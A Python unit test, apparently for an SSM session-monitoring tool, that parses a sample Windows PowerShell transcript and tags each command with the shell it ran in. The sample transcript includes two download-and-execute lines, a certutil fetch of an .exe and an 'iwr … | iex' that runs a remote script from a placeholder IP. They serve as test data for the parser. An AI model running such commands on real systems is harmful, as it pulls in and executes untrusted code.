"""Windows sessions: PowerShell's transcript (aws-facts §8), a cmd.exe started inside it, ANSI kept."""

from __future__ import annotations

from ssm_warden.transcript.extract import extract_lines

TRANSCRIPT = [
    "**********************",
    "Windows PowerShell transcript start",
    "Start time: 20240104054559",
    "Username: EC2AMAZ\\ssm-user",
    "**********************",
    "PS C:\\Users\\ssm-user> whoami",
    "ec2amaz\\ssm-user",
    "PS C:\\Users\\ssm-user> cmd",
    "Microsoft Windows [Version 10.0.20348.2227]",
    "(c) Microsoft Corporation. All rights reserved.",
    "",
    "C:\\Users\\ssm-user>certutil -urlcache -f http://203.0.113.9/a.exe a.exe",
    "****  Online  ****",
    "C:\\Users\\ssm-user>exit",
    "PS C:\\Users\\ssm-user> \x1b[32;1mGet-Process\x1b[0m |",
    ">> Select -First 1",
    "PS C:\\Users\\ssm-user> iwr http://203.0.113.9/a.ps1 | iex",
]


def test_each_command_carries_the_shell_whose_prompt_it_followed() -> None:
    # Given a PowerShell transcript in which cmd.exe is started, used and left
    result = extract_lines(TRANSCRIPT)
    # Then each command is read in its own shell: cmd's between `cmd` and `exit`, PowerShell's after
    assert [(c.text, c.shell) for c in result.commands] == [
        ("whoami", "powershell"),
        ("cmd", "powershell"),
        ("certutil -urlcache -f http://203.0.113.9/a.exe a.exe", "cmd"),
        ("exit", "cmd"),
        ("Get-Process |\nSelect -First 1", "powershell"),
        ("iwr http://203.0.113.9/a.ps1 | iex", "powershell"),
    ]
    # And the transcript header is output, not commands
    assert "Windows PowerShell transcript start" in [o.text for o in result.output]
